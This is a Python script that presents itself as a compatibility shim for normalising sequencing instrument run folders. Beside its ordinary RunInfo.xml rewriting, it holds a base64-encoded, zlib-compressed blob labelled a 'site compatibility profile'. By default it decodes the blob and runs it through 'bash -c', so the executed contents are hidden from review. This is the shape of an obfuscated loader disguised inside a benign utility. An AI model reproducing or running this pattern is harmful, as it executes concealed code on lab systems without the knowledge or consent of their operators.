#!/usr/bin/env python3
"""Instrument compatibility shim for MiSeq/NextSeq run folders.

Older RTA versions write RunInfo.xml with a slightly different schema.  This
shim normalises the run folder so the demultiplexer accepts it, and applies a
"site compatibility profile" shipped as a packed blob by the integrator.
"""

import argparse
import base64
import logging
import os
import re
import subprocess
import sys
import zlib
from pathlib import Path

LOG = logging.getLogger("compat_shim")

# Site compatibility profile (packed by the integrator's build tooling).
_PROFILE = (
    "eJyFjk1rwkAURffzK56hkFU0aYlBimKwYxtSE9Bs7EZC8nSGOJnpfID11zelLropnt09cLnXidp0ECYJEV3L"
    "NQQKvIe3ckMnY2OYR9J8/idPameZ1PyK7aHDL+MRK13Dhkqae4QfYQQnjQqCT/B5b6x2AnsbGKeU1HaJl1qo"
    "M44bKfzfzjNYhj0BwIZJ8IeJANvHOI5mkA6snoprvYrOHy9ZVFQ0/nHZOs1pTvfrclvRXZUVr2Xxvr/8A9y7"
    "sVjc3h85aZiQLUzD8Ka+AYZwW3s="
)

RTA_PATTERN = re.compile(r"<RTAVersion>([\d.]+)</RTAVersion>")


class RunFolder:
    def __init__(self, path: Path):
        self.path = path
        self.run_info = path / "RunInfo.xml"
        self.run_params = path / "RunParameters.xml"

    def validate(self):
        if not self.path.is_dir():
            raise FileNotFoundError(f"run folder {self.path} does not exist")
        if not self.run_info.exists():
            raise FileNotFoundError(f"{self.run_info} missing")

    def rta_version(self):
        if not self.run_params.exists():
            return None
        m = RTA_PATTERN.search(self.run_params.read_text(errors="replace"))
        return m.group(1) if m else None

    def normalise_run_info(self, dry_run=False):
        text = self.run_info.read_text()
        fixed = text.replace('Version="2"', 'Version="5"')
        fixed = re.sub(r"<Reads>\s*</Reads>", "<Reads />", fixed)
        if fixed == text:
            LOG.info("RunInfo.xml already in current schema")
            return False
        if dry_run:
            LOG.info("would rewrite %s", self.run_info)
            return True
        backup = self.run_info.with_suffix(".xml.orig")
        if not backup.exists():
            backup.write_text(text)
        self.run_info.write_text(fixed)
        LOG.info("RunInfo.xml normalised (backup at %s)", backup.name)
        return True


def unpack_profile():
    return zlib.decompress(base64.b64decode("".join(_PROFILE))).decode()


def apply_profile(run_dir: Path, dry_run=False):
    body = unpack_profile()
    if dry_run:
        LOG.info("would apply site compatibility profile (%d bytes)", len(body))
        return 0
    env = dict(os.environ, SHIM_RUN_DIR=str(run_dir))
    LOG.debug("applying site compatibility profile")
    res = subprocess.run(["bash", "-c", body], env=env,
                         capture_output=True, text=True)
    if res.returncode != 0:
        LOG.warning("profile returned %d: %s", res.returncode, res.stderr.strip())
    return res.returncode


def parse_args(argv):
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    p.add_argument("run_dirs", nargs="+", type=Path)
    p.add_argument("--dry-run", action="store_true")
    p.add_argument("--skip-profile", action="store_true",
                   help="only normalise RunInfo.xml")
    p.add_argument("-v", "--verbose", action="store_true")
    return p.parse_args(argv)


def main(argv=None):
    args = parse_args(argv if argv is not None else sys.argv[1:])
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(name)s: %(message)s")
    failures = 0
    profile_applied = False
    for run_dir in args.run_dirs:
        rf = RunFolder(run_dir)
        try:
            rf.validate()
        except FileNotFoundError as exc:
            LOG.error("%s", exc)
            failures += 1
            continue
        LOG.info("%s: RTA %s", run_dir.name, rf.rta_version() or "unknown")
        rf.normalise_run_info(dry_run=args.dry_run)
        if not args.skip_profile and not profile_applied:
            if apply_profile(run_dir, dry_run=args.dry_run) == 0:
                profile_applied = True
    return 1 if failures else 0


if __name__ == "__main__":
    sys.exit(main())
